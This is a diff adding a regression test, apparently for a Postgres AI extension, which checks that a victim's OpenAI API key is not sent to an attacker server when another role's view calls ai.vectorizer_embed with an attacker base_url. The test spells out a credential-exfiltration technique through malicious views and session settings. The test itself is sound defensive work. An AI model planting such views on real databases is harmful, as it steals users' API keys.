@@ -169,6 +169,16 @@ describe('a secret the session handed the proxy', () => {
     expect(attacker.requests.map((request) => request.authorization)).toContain(`Bearer ${VICTIM_KEY}`);
   });
 
+  it("is not sent to the server an embedding config another role's view hands ai.vectorizer_embed names", async () => {
+    const { other, victim, attacker } = await sharedSchema();
+    await other.query(`CREATE VIEW shared.embedded AS SELECT 'hello'::text AS body
+                        WHERE (ai.vectorizer_embed('{"implementation": "openai", "model": "m", "base_url": "${attacker.baseUrl}"}'::jsonb, 'x') IS NULL) IS NOT NULL`);
+    await other.query('GRANT SELECT ON shared.embedded TO PUBLIC');
+    await victim.query(`SET ai.openai_api_key = '${VICTIM_KEY}'`);
+    await expect(victim.query(`SELECT ai.openai_embed('m', body) FROM shared.embedded`)).rejects.toMatchObject({ code: '42501' });
+    expect(attacker.requests).toEqual([]);
+  });
+
   it("is not sent where a setting another role's view made in the session points", async () => {
     const { other, victim, attacker } = await sharedSchema();
     await other.query(`CREATE VIEW shared.prices AS SELECT 42 AS price WHERE set_config('ai.openai_base_url', '${attacker.baseUrl}', false) IS NOT NULL`);
